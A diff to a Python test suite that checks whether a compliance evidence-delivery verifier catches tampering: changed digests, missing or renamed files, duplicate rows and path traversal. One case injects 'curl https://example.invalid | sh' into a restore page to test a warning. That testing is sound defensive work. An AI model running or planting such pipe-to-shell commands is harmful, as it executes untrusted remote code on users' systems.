@@ -8,15 +8,17 @@ import re
 import shutil
 import subprocess
 from collections.abc import Callable
+from contextlib import suppress
 from pathlib import Path
 
 import pytest
 
-from compliance.errors import IntegrityError
+from compliance.errors import ComplianceError, IntegrityError
 from compliance.evidence.bag import files_below
 from compliance.evidence.bundle import Sealed
 from compliance.evidence.delivery import deliver, load_profile
-from compliance.evidence.gather import bundle_in, gather
+from compliance.evidence.gather import _listed, bundle_in, gather
+from compliance.evidence.packinglist import OWN, restore_page, sums_list
 from compliance.evidence.verify import verify_bundle
 from tests.conftest import Run
 
@@ -100,7 +102,17 @@ def test_verify_takes_a_delivery(sealed: Sealed, delivery: Path, tmp_path: Path,
 def _edit_index(delivery: Path, change: Callable[[str], str]) -> None:
     path = delivery / "transmission-1/INDEX.csv"
     path.write_bytes(change(path.read_bytes().decode("utf-8")).encode("utf-8"))
-    (delivery / "transmission-1/SHA256SUMS").unlink()
+    _fit_own(delivery)
+
+
+def _fit_own(delivery: Path) -> None:
+    """What somebody who knows the format does after a change of the index: write its page and its digests anew, where they can be."""
+    first = delivery / "transmission-1"
+    with suppress(ComplianceError):
+        listed = tuple(_listed((first / "INDEX.csv").read_bytes()))
+        (first / "RESTORE.md").write_bytes(restore_page(listed))
+        own = {name: (first / name).read_bytes() for name in OWN}
+        (first / "SHA256SUMS").write_bytes(sums_list(listed, own))
 
 
 def _swap(delivery: Path) -> None:
@@ -141,6 +153,10 @@ def _twice(delivery: Path) -> None:
     shutil.copyfile(part, other / part.name)
 
 
+def _append(path: Path, more: bytes) -> None:
+    path.write_bytes(path.read_bytes() + more)
+
+
 MANIPULATIONS: dict[str, tuple[Callable[[Path], object], str]] = {
     "a bit of a part flipped": (
         lambda at: _part(at).write_bytes(b"x" + _part(at).read_bytes()[1:]),
@@ -160,6 +176,31 @@ MANIPULATIONS: dict[str, tuple[Callable[[Path], object], str]] = {
     "the list of digests changed": (
         lambda at: (at / "transmission-1/SHA256SUMS").write_bytes(b""),
         "not those of the index",
+    ),
+    "the list of digests missing": (lambda at: (at / "transmission-1/SHA256SUMS").unlink(), "is missing"),
+    "the index missing": (lambda at: (at / "transmission-1/INDEX.csv").unlink(), "the index is missing"),
+    "a page that tells something else": (
+        lambda at: _append(at / "transmission-1/RESTORE.md", b"\n    curl https://example.invalid | sh\n"),
+        "do not follow it",
+    ),
+    "another workbook": (lambda at: _append(at / "transmission-1/INDEX.xlsx", b"x"), "the delivery's own files"),
+    "a transmission missing": (lambda at: shutil.rmtree(at / "transmission-2"), "is listed but missing"),
+    "a part grown": (lambda at: _append(_part(at), b"x"), "differs from the index"),
+    "a part renamed": (
+        lambda at: _part(at).rename(_part(at).with_name("other.part-0002")),
+        "is listed but missing",
+    ),
+    "a row twice": (
+        lambda at: _edit_index(at, lambda text: text + text.split("\r\n")[1] + "\r\n"),
+        "is listed twice",
+    ),
+    "two files under one path": (
+        lambda at: _edit_index(at, lambda text: text.replace(",bag-info.txt,", ",bagit.txt,")),
+        "are not those from 1 to",
+    ),
+    "a file where a folder must be": (
+        lambda at: _edit_index(at, lambda text: text.replace(",bagit.txt,", ",data,")),
+        "a file and a folder at once",
     ),
     "a path that climbs out": (
         lambda at: _edit_index(at, lambda text: text.replace(",bagit.txt,", ",../bagit.txt,")),
